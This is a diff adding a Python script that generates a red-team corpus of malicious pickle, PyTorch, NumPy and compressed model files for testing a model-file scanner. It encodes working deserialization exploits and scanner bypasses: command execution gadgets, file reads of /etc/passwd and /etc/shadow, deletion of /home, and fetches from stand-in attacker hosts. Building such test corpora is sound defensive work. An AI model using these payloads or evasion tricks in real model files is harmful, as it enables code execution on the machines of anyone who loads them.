@@ -1,0 +1,401 @@
+#!/usr/bin/env python3
+"""Writes Pathfinder's red-team corpus of malicious model files into fixtures/artifact-corpus/attacks/.
+
+Every file is assembled from raw pickle opcodes (nothing is pickled from live objects, nothing is ever loaded),
+so gadgets from modules this Python does not have are as easy to write as any other. The attacks follow
+published bypasses and research: picklescan's GHSA advisories (torch.utils, _aix_support, _osx_support,
+_pyrepl, test.support, idlelib, profile/trace/cProfile, lib2to3, asyncio, numpy.f2py, ...), fickling's and
+modelscan's issues (getattr chains, functools.partial, copyreg helpers, EXT codes, memo tricks, stacked
+streams), ModelAudit advisories (zip name tricks, nested pickles in BUILD state, compressed members), the
+PyTorch weights_only CVEs (CVE-2025-32434 style legacy tar/stacked files, _rebuild_from_type_v2 and
+_load_from_bytes abuse), and the nullifAI write-up (7z-free broken streams: a payload, then garbage).
+Beyond those, gadgets nobody lists: stdlib and ML helpers that run commands, evaluate code, write files,
+import modules or load another pickle, called directly or through allowlisted helpers.
+
+Run: python3 scripts/artifacts/gen-redteam.py   (standard library only)
+"""
+import bz2
+import gzip
+import io
+import lzma
+import os
+import struct
+import tarfile
+import zipfile
+import zlib
+
+ROOT = os.path.abspath(os.path.join(os.path.dirname(__file__), "..", ".."))
+OUT = os.path.join(ROOT, "fixtures", "artifact-corpus", "attacks")
+CMD = "touch /tmp/pathfinder-redteam"
+PY = "__import__('os').system('touch /tmp/pathfinder-redteam')"
+
+
+# ---- a tiny pickle assembler -------------------------------------------------------------------------
+
+class P:
+    """Appends opcodes; `g()` spells globals the way the chosen protocol does."""
+
+    def __init__(self, proto=4, frame=False):
+        self.proto = proto
+        self.frame = frame
+        self.b = bytearray()
+        self.memo = 0
+        if proto >= 2:
+            self.b += bytes([0x80, proto])
+
+    def raw(self, data):
+        self.b += data
+        return self
+
+    def g(self, module, name):
+        if self.proto >= 4:
+            self.s(module).s(name).raw(b"\x93")
+        else:
+            self.raw(b"c" + module.encode() + b"\n" + name.encode() + b"\n")
+        return self
+
+    def s(self, value):
+        data = value.encode("utf-8")
+        if self.proto == 0:
+            return self.raw(b"V" + value.encode("raw_unicode_escape") + b"\n")
+        if self.proto >= 4 and len(data) < 256:
+            return self.raw(b"\x8c" + bytes([len(data)]) + data)
+        return self.raw(b"X" + struct.pack("<I", len(data)) + data)
+
+    def by(self, data):
+        if self.proto < 3:
+            return self.g("_codecs", "encode").mark().s(data.decode("latin-1")).s("latin1").raw(b"tR")
+        return self.raw(b"B" + struct.pack("<I", len(data)) + data)
+
+    def i(self, n):
+        return self.raw(b"I" + str(n).encode() + b"\n") if self.proto == 0 else self.raw(b"J" + struct.pack("<i", n))
+
+    def none(self):
+        return self.raw(b"N")
+
+    def mark(self):
+        return self.raw(b"(")
+
+    def tup(self):
+        return self.raw(b"t")
+
+    def tup1(self):
+        return self.raw(b"\x85") if self.proto >= 2 else self.raw(b"t")
+
+    def reduce(self):
+        return self.raw(b"R")
+
+    def put(self):
+        if self.proto >= 4:
+            self.raw(b"\x94")
+        else:
+            self.raw(b"p" + str(self.memo).encode() + b"\n")
+        self.memo += 1
+        return self.memo - 1
+
+    def get(self, index):
+        return self.raw(b"g" + str(index).encode() + b"\n")
+
+    def stop(self):
+        return self.raw(b".")
+
+    def call(self, module, name, *args):
+        self.g(module, name).mark()
+        for a in args:
+            self.arg(a)
+        return self.tup().reduce()
+
+    def arg(self, a):
+        if isinstance(a, str):
+            self.s(a)
+        elif isinstance(a, bool) or a is None:
+            self.raw(b"N" if a is None else (b"\x88" if a else b"\x89") if self.proto >= 2 else (b"I01\n" if a else b"I00\n"))
+        elif isinstance(a, int):
+            self.i(a)
+        elif isinstance(a, bytes):
+            self.by(a)
+        elif isinstance(a, list):
+            self.raw(b"(")
+            for x in a:
+                self.arg(x)
+            self.raw(b"l")
+        elif isinstance(a, dict):
+            self.raw(b"(")
+            for k, v in a.items():
+                self.arg(k)
+                self.arg(v)
+            self.raw(b"d")
+        elif callable(a):
+            a(self)
+        return self
+
+    def bytes(self):
+        data = bytes(self.b)
+        if self.frame and self.proto >= 4:
+            body = data[2:]
+            data = data[:2] + b"\x95" + struct.pack("<Q", len(body)) + body
+        return data
+
+
+def simple(module, name, *args, proto=4):
+    return P(proto).call(module, name, *args).stop().bytes()
+
+
+# ---- containers ----------------------------------------------------------------------------------------
+
+def torch_zip(payload, name="archive", pkl="data.pkl", compression=zipfile.ZIP_STORED):
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", compression) as z:
+        z.writestr(f"{name}/{pkl}", payload)
+        z.writestr(f"{name}/version", "3\n")
+        z.writestr(f"{name}/data/0", b"\0" * 16)
+    return buf.getvalue()
+
+
+def npy_object(payload, descr="'|O'"):
+    header = ("{'descr': " + descr + ", 'fortran_order': False, 'shape': (1,), }").encode()
+    pad = 64 - (10 + len(header) + 1) % 64
+    header += b" " * pad + b"\n"
+    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload
+
+
+def npz(members):
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
+        for n, d in members.items():
+            z.writestr(n, d)
+    return buf.getvalue()
+
+
+def tar(members, mode="w"):
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode=mode) as t:
+        for n, d in members.items():
+            info = tarfile.TarInfo(n)
+            info.size = len(d)
+            t.addfile(info, io.BytesIO(d))
+    return buf.getvalue()
+
+
+def legacy_stacked(payload):
+    magic = P(2).raw(b"\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little")).stop().bytes()
+    version = P(2).raw(b"M\xe9\x03").stop().bytes()
+    sys_info = P(2).raw(b"}").stop().bytes()
+    return magic + version + sys_info + payload
+
+
+# ---- the corpus ----------------------------------------------------------------------------------------
+
+ATTACKS = []
+
+
+def attack(name, data, source):
+    ATTACKS.append((name, data, source))
+
+
+def build():
+    # Classic command and code execution at every protocol.
+    for proto in range(6):
+        attack(f"os-system.p{proto}.pkl", simple("os", "system", CMD, proto=proto), "classic __reduce__ payload")
+        attack(f"builtins-exec.p{proto}.pkl", simple("builtins", "exec", PY, proto=proto), "classic __reduce__ payload")
+    attack("posix-system-framed.pkl", P(4, frame=True).call("posix", "system", CMD).stop().bytes(), "protocol 4 with FRAME first")
+    attack("nt-system.pkl", simple("nt", "system", CMD), "Windows spelling")
+    attack("builtin-eval-py2.pkl", simple("__builtin__", "eval", PY, proto=0), "Python 2 module name (fix_imports)")
+    attack("subprocess-popen.pkl", simple("subprocess", "Popen", ["sh", "-c", CMD]), "subprocess")
+    attack("subprocess-getoutput.pkl", simple("subprocess", "getoutput", CMD), "subprocess")
+    attack("import-os.pkl", simple("builtins", "__import__", "os"), "GHSA-46h3-79wf-xr6c style")
+    attack("runpy-run-code.pkl", simple("runpy", "_run_code", PY, {}), "picklescan malicious14")
+    attack("timeit.pkl", simple("timeit", "timeit", "", PY), "picklescan malicious21")
+    attack("pip-main.pkl", simple("pip", "main", ["install", "evil"]), "picklescan malicious16")
+    attack("pty-spawn.pkl", simple("pty", "spawn", ["sh", "-c", CMD]), "GHSA-vqmv-47xg-9wpr")
+    attack("ctypes-cdll.pkl", simple("ctypes", "CDLL", "/tmp/evil.so"), "GHSA-4675-36f9-wf6r")
+    attack("ssl-exfil.pkl", simple("ssl", "get_server_certificate", ["x.attacker.invalid", 443]), "picklescan dns_exfiltration")
+    attack("webbrowser-open.pkl", simple("webbrowser", "open", "https://attacker.invalid"), "network")
+    attack("shutil-rmtree.pkl", simple("shutil", "rmtree", "/home"), "file deletion")
+    attack("io-fileio.pkl", simple("_io", "FileIO", "/etc/passwd", "r"), "picklescan io_FileIO")
+    attack("logging-filehandler.pkl", simple("logging", "FileHandler", "/tmp/evil"), "picklescan logging_FileHandler")
+    attack("pkgutil-resolve-name.pkl", P(4).g("pkgutil", "resolve_name").mark().s("os:system").tup().reduce()
+           .mark().s(CMD).tup().reduce().stop().bytes(), "GHSA-vvpj-8cmc-gx39")
+    attack("cprofile-run.pkl", simple("cProfile", "run", PY), "GHSA-49gj-c84q-6qm9")
+    attack("trace-runctx.pkl", P(4).g("trace", "Trace.runctx").mark().g("trace", "Trace").mark().tup().reduce().s(PY).raw(b"}}").tup().reduce().stop().bytes(),
+           "GHSA-g344-hcph-8vgg")
+    attack("idlelib-runcode.pkl", P(4).g("idlelib.pyshell", "ModifiedInterpreter.runcode").mark().raw(b"}").s(PY).tup().reduce().stop().bytes(), "GHSA-3gf5-cxq9-w223")
+    attack("lib2to3-make-label.pkl", simple("lib2to3.pgen2.pgen", "ParserGenerator.make_label", None, {}, '""+' + PY), "GHSA-p9w7-82w4-7q8m")
+    attack("numpy-f2py.pkl", simple("numpy.f2py.crackfortran", "getlincoef", PY, []), "GHSA-r8g5-cgf2-4m4m")
+    attack("asyncio-subprocess.pkl", simple("asyncio.unix_events", "_UnixSubprocessTransport._start", {}, CMD, True, None, None, None, 0), "GHSA-jgw4-cr84-mqxg")
+    attack("numpy-runstring.pkl", simple("numpy.testing._private.utils", "runstring", PY, {}), "picklescan malicious22")
+    attack("torch-inductor-compile.pkl", simple("torch._inductor.codecache", "compile_file", "", "", ["sh", "-c", CMD]), "picklescan malicious17")
+    attack("pydoc-pipepager.pkl", simple("pydoc", "pipepager", "", CMD), "picklescan malicious18")
+    attack("venv-create.pkl", simple("venv", "create", "venv", False, False, True, False, CMD), "picklescan malicious20")
+    attack("uuid-command.pkl", simple("uuid", "_get_command_stdout", "sh", "-c", CMD), "GHSA-g38g-8gr9-h9xp (uuid)")
+    attack("imaplib-stream.pkl", simple("imaplib", "IMAP4_stream", CMD), "GHSA-g38g-8gr9-h9xp (imaplib)")
+    attack("distutils-write-file.pkl", simple("distutils.file_util", "write_file", "/tmp/evil.pth", ["import os"]), "GHSA-m273-6v24-x4m4")
+    attack("types-codetype.pkl", simple("types", "CodeType", 0, 0, 0, 0, 0, 0, b"d\x00S\x00", [], [], [], "x", "x", 0, b""), "picklescan types_CodeType")
+    attack("cloudpickle-builtin-type.pkl", simple("cloudpickle.cloudpickle", "_builtin_type", "CodeType"), "picklescan cloudpickle_codeinjection")
+
+    # Gadgets no denylist names (published bypasses and fresh ones): the allowlist must catch them.
+    novel = [
+        ("torch.utils.bottleneck.__main__", "run_cprofile", [PY, {}], "GHSA-4r9r-ch6f-vxmx"),
+        ("torch.utils.bottleneck.__main__", "run_autograd_prof", [PY, {}], "GHSA-4whj-rm5r-c2v8"),
+        ("torch.utils.collect_env", "run", [CMD], "GHSA-f745-w6jp-hpxx"),
+        ("torch.utils.collect_env", "run_and_read_all", [None, CMD], "GHSA-jhph-76pp-mggw"),
+        ("torch.utils.data.datapipes.utils.decoder", "basichandlers", ["pickle", b"\x80\x04."], "GHSA-h3qp-7fh3-f8h4"),
+        ("torch.utils._config_module", "ConfigModule.load_config", [None, b"\x80\x04."], "GHSA-vv6j-3g6g-2pvj"),
+        ("_aix_support", "_read_cmd_output", [CMD], "GHSA-g38g-8gr9-h9xp (_aix_support)"),
+        ("_osx_support", "_read_output", [CMD], "GHSA-g38g-8gr9-h9xp (_osx_support)"),
+        ("_pyrepl.pager", "pipe_pager", ["", CMD], "GHSA-g38g-8gr9-h9xp (_pyrepl)"),
+        ("test.support.script_helper", "assert_python_ok", ["-c", PY], "GHSA-g38g-8gr9-h9xp (test.support)"),
+        ("platform", "_syscmd_file", ["/etc/passwd"], "fresh: platform runs the file command"),
+        ("pathlib", "Path.write_text", [lambda p: p.call("pathlib", "Path", "/tmp/evil.pth"), "import os"], "fresh: pathlib writes files"),
+        ("py_compile", "compile", ["/tmp/x.py", "/usr/lib/python3/evil.pyc"], "fresh: writes a .pyc"),
+        ("compileall", "compile_dir", ["/tmp"], "fresh: writes .pyc files"),
+        ("zipapp", "create_archive", ["/tmp", "/tmp/out.pyz"], "fresh: writes an archive"),
+        ("sqlite3", "connect", ["/tmp/evil.db"], "fresh: creates a file"),
+        ("pandas.io.parsers.readers", "read_csv", ["https://attacker.invalid/x.csv"], "fresh: pandas fetches a URL"),
+        ("pandas.io.parquet", "read_parquet", ["https://attacker.invalid/x.parquet"], "fresh: pandas fetches a URL"),
+        ("sklearn.datasets._openml", "fetch_openml", ["x"], "fresh: network fetch from an ML helper"),
+        ("sklearn.utils._testing", "assert_run_python_script", [PY], "fresh: scikit-learn testing helper runs Python"),
+        ("numpy.lib.format", "open_memmap", ["/tmp/evil.npy", "w+"], "fresh: numpy writes a file"),
+        ("scipy.io.matlab._mio", "savemat", ["/tmp/evil.mat", {}], "fresh: scipy writes a file"),
+        ("torch.utils.model_zoo", "load_url", ["https://attacker.invalid/m.pt"], "fresh: downloads and torch.loads"),
+        ("mailcap", "findmatch", [{}, "x"], "fresh: mailcap runs test commands"),
+        ("linecache", "getlines", ["/etc/shadow"], "fresh: reads a file"),
+        ("xml.dom.minidom", "parse", ["https://attacker.invalid/x.xml"], "fresh: network fetch"),
+        ("configparser", "ConfigParser.read", [None, "/etc/passwd"], "fresh: reads a file"),
+        ("ensurepip", "_run_pip", [["install", "evil"]], "GHSA-xp4f-hrf8-rxw7"),
+        ("sysconfig", "_init_posix", [{}], "fresh: imports a module named by the environment"),
+        ("code", "InteractiveInterpreter.runsource", [None, PY], "GHSA-cj3c-v495-4xqh style"),
+        ("_sitebuiltins", "_Printer", ["x", "y", ["/etc/passwd"]], "fresh: reads files when printed"),
+        ("tarfile", "TarFile.extractall", [None, "/"], "path traversal on load"),
+        ("antigravity", "geohash", [0, 0, b"x"], "fresh: opens a browser on import"),
+        ("this", "s", [], "fresh: import side effect"),
+        ("joblib.parallel", "Parallel", [], "joblib worker helper"),
+        ("dill._dill", "_create_function", [None, {}], "dill code objects"),
+        ("builtins", "breakpoint", [], "debugger"),
+        ("torch.serialization", "load", [b"\x80\x04."], "picklescan malicious19 style"),
+    ]
+    for module, name, args, source in novel:
+        slug = f"{module}.{name}".replace(".", "-").replace("_", "").lower()[:60]
+        attack(f"gadget-{slug}.pkl", simple(module, name, *args), source)
+        attack(f"gadget-{slug}.p0.pkl", simple(module, name, *[a for a in args if not callable(a)], proto=0), source + " (protocol 0)")
+
+    # Allowlisted helpers abused: their loading runs what their arguments name.
+    attack("partial-system.pkl", P(4).g("functools", "partial").mark().g("os", "system").s(CMD).tup().reduce()
+           .mark().tup().reduce().stop().bytes(), "functools.partial wraps a command runner")
+    attack("partial-unknown.pkl", P(4).g("functools", "partial").mark().g("_aix_support", "_read_cmd_output").s(CMD).tup().reduce()
+           .mark().tup().reduce().stop().bytes(), "functools.partial wraps an unlisted gadget")
+    attack("reconstructor-base.pkl", P(2).g("copy_reg", "_reconstructor").mark().g("builtins", "object")
+           .g("_osx_support", "_read_output").s(CMD).tup().reduce().stop().bytes(), "copyreg._reconstructor calls its base")
+    attack("reconstructor-cls-call.pkl", P(2).g("copy_reg", "_reconstructor").mark().g("builtins", "object").mark().tup().reduce()
+           .g("builtins", "object").none().tup().reduce().stop().bytes(), "copyreg._reconstructor with a computed class")
+    attack("newobj-unknown-class.pkl", P(2).g("test.support", "TestFailed").mark().tup().raw(b"\x81").raw(b"}b").stop().bytes(),
+           "NEWOBJ of an unlisted class (its __setstate__ runs)")
+    attack("defaultdict-factory.pkl", P(2).g("collections", "defaultdict").mark().g("posix", "system").tup().reduce().stop().bytes(),
+           "defaultdict factory")
+    attack("getattr-chain.pkl", P(4).g("builtins", "getattr").mark().g("builtins", "__import__").mark().s("os").tup().reduce()
+           .s("system").tup().reduce().mark().s(CMD).tup().reduce().stop().bytes(), "getattr(__import__('os'), 'system')")
+    attack("getattr-module.pkl", P(4).g("builtins", "getattr").mark().g("builtins", "getattr").mark().g("os", "path").s("os").tup().reduce().s("system").tup().reduce()
+           .mark().s(CMD).tup().reduce().stop().bytes(), "getattr(getattr(os.path, 'os'), 'system')")
+    attack("getattr-allowlisted-module.pkl", P(4).g("builtins", "getattr").mark().g("builtins", "getattr").mark().g("collections", "OrderedDict").s("__init__").tup().reduce()
+           .s("__globals__").tup().reduce().mark().tup().reduce().stop().bytes(), "sandbox escape through __globals__")
+    attack("getattr-dynamic-name.pkl", P(4).g("builtins", "getattr").mark().g("posix", "getcwd").mark().tup().reduce()
+           .g("builtins", "str").mark().s("system").tup().reduce().tup().reduce().mark().s(CMD).tup().reduce().stop().bytes(),
+           "getattr with a computed attribute name")
+    attack("ufunc-reconstruct.pkl", P(2).g("numpy.core", "_ufunc_reconstruct").mark().s("os").s("system").tup().reduce()
+           .mark().s(CMD).tup().reduce().stop().bytes(), "numpy _ufunc_reconstruct resolves any module attribute")
+    attack("rebuild-from-type.pkl", P(2).g("torch._tensor", "_rebuild_from_type_v2").mark().g("os", "system").g("builtins", "object")
+           .mark().s(CMD).tup().none().tup().reduce().stop().bytes(), "torch _rebuild_from_type_v2 calls its function")
+    attack("numpy-reconstruct-subclass.pkl", P(2).g("numpy.core.multiarray", "_reconstruct").mark().g("test.support", "TestFailed")
+           .mark().i(0).tup().s("b").tup().reduce().stop().bytes(), "numpy _reconstruct with an unlisted subclass")
+    attack("call-of-call.pkl", P(2).g("collections", "OrderedDict").mark().tup().reduce().mark().s(CMD).tup().reduce().stop().bytes(),
+           "calling the result of a call")
+    attack("ndarraywrapper-traversal.pkl", P(2).g("joblib.numpy_pickle_compat", "NDArrayWrapper").mark().tup().raw(b"\x81")
+           .mark().s("filename").s("../../../tmp/evil.npy").s("subclass").g("numpy", "ndarray").raw(b"db").stop().bytes(),
+           "old joblib wrapper reads a file outside its folder with allow_pickle=True")
+
+    # Opcode-level evasion.
+    attack("stack-global-dynamic.pkl", P(4).g("builtins", "str").mark().s("os").tup().reduce().s("system").raw(b"\x93")
+           .mark().s(CMD).tup().reduce().stop().bytes(), "STACK_GLOBAL with computed operands")
+    attack("ext-code.pkl", P(2).raw(b"\x82\x01").mark().s(CMD).tup().reduce().stop().bytes(), "EXT1 copyreg registry code")
+    attack("memo-global.pkl", P(2).g("os", "system").raw(b"q\x05").raw(b"0").raw(b"h\x05").mark().s(CMD).tup().reduce().stop().bytes(),
+           "global stored in the memo, fetched later")
+    attack("inst-opcode.pkl", b"(S'" + CMD.encode() + b"'\nios\nsystem\n.", "INST opcode")
+    attack("obj-opcode.pkl", P(2).mark().g("os", "system").s(CMD).raw(b"o").stop().bytes(), "OBJ opcode")
+    attack("newobj-ex.pkl", P(4).g("subprocess", "Popen").mark().s("sh").s("-c").s(CMD).raw(b"l").raw(b"\x85").raw(b"}").raw(b"\x92").stop().bytes(), "NEWOBJ_EX")
+    attack("module-mutation.pkl", P(2).g("os", "path").raw(b"}").s("join").g("os", "system").raw(b"sb").stop().bytes(), "BUILD on a module")
+    attack("broken-after-payload.pkl", P(2).call("os", "system", CMD).raw(b"\xff\xfe garbage").bytes(), "nullifAI: broken stream after the payload")
+    attack("broken-proto0.pkl", b"cbuiltins\nexec\n(X>\nf = open('x', 'a')tR.", "picklescan broken_model")
+    attack("stacked-second.pkl", P(2).raw(b"}").stop().bytes() + simple("os", "system", CMD, proto=2), "payload in the second stacked pickle")
+    attack("long-prefix.p0.pkl", b"S'" + b"A" * 70000 + b"'\n0" + simple("os", "system", CMD, proto=0), "protocol 0 string over 64 KiB before the payload")
+    attack("long-prefix-binary.pkl", P(2).by(b"\0" * 70000).raw(b"0").call("os", "system", CMD).stop().bytes(), "binary string over 64 KiB before the payload")
+    attack("proto1-noheader.pkl", b"}q\x00(U\x01aq\x01cos\nsystem\nq\x02(U\x02idq\x03tRq\x04u.", "protocol 1 without PROTO")
+    attack("proto-header-p1.pkl", b"\x80\x01" + simple("os", "system", CMD, proto=1), "protocol 1 with a PROTO opcode")
+    attack("frame-straddle.pkl", b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x94\x8c\x06system\x94\x93\x8c\x02id\x85R.", "FRAME that straddles opcodes")
+    attack("nested-loads.pkl", P(2).call("pickle", "loads", simple("os", "system", CMD)).stop().bytes(), "nested pickle.loads")
+    attack("nested-base64.pkl", P(2).g("pickle", "loads").mark().g("base64", "b64decode").mark()
+           .s(__import__("base64").b64encode(simple("os", "system", CMD)).decode()).tup().reduce().tup().reduce().stop().bytes(), "base64 nested pickle")
+    attack("load-from-bytes.pkl", P(2).call("torch.storage", "_load_from_bytes", simple("_aix_support", "_read_cmd_output", CMD)).stop().bytes(),
+           "torch.storage._load_from_bytes with a malicious inner pickle")
+    attack("load-from-bytes-dynamic.pkl", P(2).g("torch.storage", "_load_from_bytes").mark().g("builtins", "bytes").mark().i(3).tup().reduce()
+           .tup().reduce().stop().bytes(), "torch.storage._load_from_bytes of computed bytes")
+    attack("nested-in-build-state.pkl", P(2).g("collections", "OrderedDict").mark().tup().reduce().mark().s("x")
+           .arg(lambda p: p.call("pickle", "loads", simple("posix", "system", CMD))).raw(b"db").stop().bytes(),
+           "nested pickle inside a BUILD state")
+
+    # Containers that loaders open.
+    evil = simple("posix", "system", CMD, proto=2)
+    novel_evil = simple("torch.utils.collect_env", "run", CMD, proto=2)
+    attack("torch-zip.pt", torch_zip(evil), "torch zip checkpoint")
+    attack("torch-zip-novel.pt", torch_zip(novel_evil), "torch zip with an unlisted gadget")
+    attack("torch-zip-deflate.pt", torch_zip(evil, compression=zipfile.ZIP_DEFLATED), "deflated data.pkl")
+    attack("torch-zip-bz2.pt", torch_zip(evil, compression=zipfile.ZIP_BZIP2), "bzip2 member")
+    attack("torch-zip-lzma.pt", torch_zip(evil, compression=zipfile.ZIP_LZMA), "LZMA member")
+    attack("torch-zip-renamed.bin", torch_zip(evil, name="weights", pkl="config.pkl"), "pickle under another name")
+    attack("torch-zip-prepended.pt", b"\0" * 100 + torch_zip(evil), "data prepended to the zip")
+    attack("torch-legacy-stacked.pt", legacy_stacked(evil), "legacy stacked torch file (CVE-2025-32434 family)")
+    attack("torch-legacy-tar.tar", tar({"sys_info": P(2).raw(b"}").stop().bytes(), "pickle": evil, "storages": P(2).raw(b"]").stop().bytes(),
+                                        "tensors": P(2).raw(b"]").stop().bytes()}), "legacy torch tar layout")
+    attack("nemo.nemo", tar({"model_config.yaml": b"name: x\n", "model_weights.ckpt": torch_zip(evil)}, "w:gz"), "NeMo tar.gz with a checkpoint")
+    attack("object.npy", npy_object(evil), "numpy object array")
+    attack("object-descr-spelling.npy", npy_object(evil, "'O'"), "object dtype spelled without byte order")
+    attack("object-descr-list.npy", npy_object(evil, "[('a', 'O')]"), "structured dtype with an object field")
+    attack("arrays.npz", npz({"a.npy": npy_object(evil)}), "npz with an object array")
+    attack("object-descr-word.npy", npy_object(evil, "'object'"), "object dtype spelled as a word (numpy.dtype('object'))")
+    attack("object-duplicate-key.npy", npy_object(evil, "'<f8', 'descr': '|O'"), "npy header with 'descr' twice: numpy's literal_eval keeps the last")
+    attack("payload-padded.gz", gzip.compress(P(2).raw(b"}").stop().bytes()) + b"\0" * 512 + gzip.compress(evil), "zero padding between gzip members")
+    benign_zip = torch_zip(P(2).raw(b"}").stop().bytes())
+    attack("two-archives.pt", torch_zip(evil) + benign_zip, "two zips: front readers and end-record readers disagree")
+    attack("payload.pkl.gz", gzip.compress(evil), "gzip")
+    attack("payload-multimember.gz", gzip.compress(P(2).raw(b"}").stop().bytes()) + gzip.compress(evil), "gzip second member")
+    attack("payload.pkl.bz2", bz2.compress(evil), "bzip2")
+    attack("payload-multistream.bz2", bz2.compress(b"") + bz2.compress(evil), "bzip2 second stream")
+    attack("payload.pkl.xz", lzma.compress(evil), "xz")
+    attack("payload.pkl.lzma", lzma.compress(evil, format=lzma.FORMAT_ALONE), "lzma alone")
+    attack("payload-multistream.xz", lzma.compress(P(2).raw(b"}").stop().bytes()) + lzma.compress(evil), "xz second stream")
+    attack("payload-delta.xz", lzma.compress(evil, filters=[{"id": lzma.FILTER_DELTA, "dist": 4}, {"id": lzma.FILTER_LZMA2}]),
+           "xz with a delta filter before LZMA2")
+    attack("payload.z", zlib.compress(evil), "zlib (joblib)")
+    attack("payload-noext", evil, "extensionless pickle")
+    attack("payload.dat", simple("os", "system", CMD, proto=0), "protocol 0 with an unusual extension")
+    attack("polyglot.pt", evil[:-1] + b"0" + b"." + torch_zip(simple("builtins", "eval", PY, proto=2)), "pickle/zip polyglot")
+
+
+def main():
+    build()
+    os.makedirs(OUT, exist_ok=True)
+    for old in os.listdir(OUT):
+        os.remove(os.path.join(OUT, old))
+    lines = ["# Red-team corpus (generated by scripts/artifacts/gen-redteam.py; never load these files)", "",
+             f"{len(ATTACKS)} malicious files. Every one must be reported at error level (critical or high).", "",
+             "| file | technique / source |", "|---|---|"]
+    for name, data, source in ATTACKS:
+        with open(os.path.join(OUT, name), "wb") as f:
+            f.write(data)
+        lines.append(f"| {name} | {source} |")
+    with open(os.path.join(OUT, "MANIFEST.md"), "w") as f:
+        f.write("\n".join(lines) + "\n")
+    print(f"wrote {len(ATTACKS)} attacks to {OUT}")
+
+
+if __name__ == "__main__":
+    main()
